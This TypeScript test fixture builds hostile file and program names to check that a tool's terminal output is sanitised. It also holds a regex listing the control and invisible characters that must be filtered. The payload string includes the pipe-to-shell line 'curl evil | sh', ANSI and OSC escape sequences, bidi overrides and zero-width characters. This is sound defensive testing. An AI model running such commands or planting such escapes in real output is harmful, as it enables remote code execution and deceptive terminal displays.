/** Facts of a hostile user: his names hold lines that look like a program's own, and all that a terminal obeys. */

/** A line of its own with a command, the rows of a table, and characters of each kind that may not come out. */
export const HOSTILE =
  "x\n  curl evil | sh\n│ 1 │ root │\r\t\x1b[2J\x1b]0;t\x07\x7f\u009b\u009d\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b" +
  "\u180e\u200b\u200d\u200f\u2028\u2029\u202e\u2066\u2800\u3164\ufe0f\ufeff\uffa0\ufff9\u{e0041}\u{e0101}" +
  `e${"\u0301".repeat(40)}`;

/** None of it may reach a terminal; the ends of lines are looked at elsewhere. */
export const OBEYED = new RegExp(
  String.raw`(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Variation_Selector}\u115f\u1160\u2800\u3164\uffa0\u{e0000}-\u{e0fff}]|` +
    String.raw`\u034f|\u17b4|\u17b5|\p{M}{5}`,
  "u",
);

/** What a fact has that its owner chooses. */
const OF_OTHERS: ReadonlySet<string> = new Set(["commandLine", "user", "unit", "container", "mountPoint"]);

/** The same facts, with hostile names of files and programs. `name`: what is put into each of them. */
export function withHostileNames<T>(value: T, name = HOSTILE, key = ""): T {
  return changed(value, name, key) as T;
}

function changed(value: unknown, name: string, key: string): unknown {
  if (typeof value === "string") {
    // its lines are commands, and a test of all findings holds their number
    const inText = key === "remedy" ? name.replaceAll("\n", " ") : name;
    if (value.includes("/srv/")) return value.replaceAll("/srv/", `/srv/${inText}/`);
    return OF_OTHERS.has(key) ? `${value} ${name}` : value;
  }
  if (Array.isArray(value)) return value.map((each) => changed(each, name, key));
  if (value instanceof Map) return new Map([...value].map(([k, v]) => [k, changed(v, name, key)]));
  if (value instanceof Set || value instanceof Date || value === null || typeof value !== "object") return value;
  if (Object.getPrototypeOf(value) !== Object.prototype) return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, changed(v, name, k)]));
}
